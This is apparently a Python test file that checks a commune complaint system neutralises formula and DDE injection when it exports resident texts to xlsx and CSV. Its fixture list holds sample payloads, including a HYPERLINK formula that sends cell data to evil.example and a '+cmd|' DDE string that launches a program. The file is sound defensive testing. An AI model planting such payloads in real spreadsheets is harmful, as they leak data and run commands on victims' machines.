"""A resident's text that a spreadsheet would run (a formula, a DDE command) is exported as
text: a string cell in the .xlsx, behind a `'` in the CSV; and each file imported again
gives back exactly what the resident wrote."""

import csv
import io
from datetime import datetime
from pathlib import Path

from openpyxl import load_workbook
from sqlmodel import col, select
from sqlmodel.ext.asyncio.session import AsyncSession

from models import Channel, Commune, Kind, Ticket
from services.cases import tickets
from services.cases_file import export as case_export
from services.cases_file.importer import import_cases
from services.communes import registry as communes
from services.people import residents
from tests.services.cases_file.test_import_export import NOW, POLICY, VN, YEAR

TEXTS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0 đường hỏng",
    "-2+3 đèn đường tắt",
    "@SUM(1+1) rác chưa thu",
    "'Trích' lời ông trưởng thôn",
    "''Hai dấu'' nháy ở đầu",
    "Đường thôn Yên Phú = lầy lội, + ngập",
]
RISKY = TEXTS[:4]


async def _filed(session: AsyncSession) -> Commune:
    commune = await communes.add_commune(session, "7060", year=2024, population=1000)
    resident = await residents.get_or_create_by_telegram(session, 7, full_name="An", username=None)
    for day, text in enumerate(TEXTS, start=1):
        draft = tickets.TicketDraft(
            Kind.REPORT, None, text, datetime(2024, 3, day, 9, tzinfo=VN), Channel.TELEGRAM
        )
        await tickets.submit_ticket(
            session, commune=commune, resident=resident, draft=draft, policy=POLICY, now=NOW
        )
    return commune


async def _texts(session: AsyncSession, commune: Commune) -> list[str]:
    query = select(Ticket.text).where(Ticket.commune_id == commune.id).order_by(col(Ticket.code))
    return list((await session.exec(query)).all())


async def test_an_xlsx_holds_every_text_as_a_string_cell(
    session: AsyncSession, tmp_path: Path
) -> None:
    commune = await _filed(session)
    data = await case_export.export_cases(
        session, POLICY, commune, YEAR, "xlsx", with_text=True, now=NOW
    )
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]  # not read-only: cell types
    column = [c.value for c in sheet[1]].index("Nội dung") + 1
    cells = [sheet.cell(row, column) for row in range(2, sheet.max_row + 1)]
    assert [c.value for c in cells] == TEXTS
    assert {c.data_type for c in cells} == {"s"}, "no formula"
    assert all(c.quotePrefix for c in cells[:4]), "Excel keeps them text when edited"
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)

    again = await communes.add_commune(session, "4", year=2024, population=1000)
    (tmp_path / "so.xlsx").write_bytes(data)
    result = await import_cases(session, POLICY, again, tmp_path / "so.xlsx", now=NOW)
    assert (result.imported, result.errors) == (len(TEXTS), [])
    assert await _texts(session, again) == TEXTS


async def test_a_csv_puts_a_quote_before_a_formula_and_the_import_takes_it_off(
    session: AsyncSession, tmp_path: Path
) -> None:
    commune = await _filed(session)
    data = await case_export.export_cases(
        session, POLICY, commune, YEAR, "csv", with_text=True, now=NOW
    )
    raw = data.decode("utf-8-sig")
    records = list(csv.reader(io.StringIO(raw)))
    column = records[0].index("Nội dung")
    written = [r[column] for r in records[1:]]
    assert written == [
        "'" + TEXTS[0],
        "'" + TEXTS[1],
        "'" + TEXTS[2],
        "'" + TEXTS[3],
        "''Trích' lời ông trưởng thôn",
        "'''Hai dấu'' nháy ở đầu",
        TEXTS[6],
    ]
    for text in RISKY:  # what a spreadsheet sees at the start of each cell
        assert not any(cell.startswith(text[0]) for r in records for cell in r), text

    again = await communes.add_commune(session, "4", year=2024, population=1000)
    (tmp_path / "so.csv").write_bytes(data)
    result = await import_cases(session, POLICY, again, tmp_path / "so.csv", now=NOW)
    assert (result.imported, result.errors) == (len(TEXTS), [])
    assert await _texts(session, again) == TEXTS


async def test_a_control_character_does_not_break_the_xlsx(session: AsyncSession) -> None:
    commune = await communes.add_commune(session, "7060", year=2024, population=1000)
    resident = await residents.get_or_create_by_telegram(session, 7, full_name="An", username=None)
    draft = tickets.TicketDraft(
        Kind.REPORT, None, "Cống \x1b bị tắc lâu rồi", datetime(2024, 3, 1, tzinfo=VN), Channel.WEB
    )
    await tickets.submit_ticket(
        session, commune=commune, resident=resident, draft=draft, policy=POLICY, now=NOW
    )
    data = await case_export.export_cases(
        session, POLICY, commune, YEAR, "xlsx", with_text=True, now=NOW
    )
    rows = list(load_workbook(io.BytesIO(data)).worksheets[0].iter_rows(values_only=True))
    assert "Cống \ufffd bị tắc lâu rồi" in rows[1]
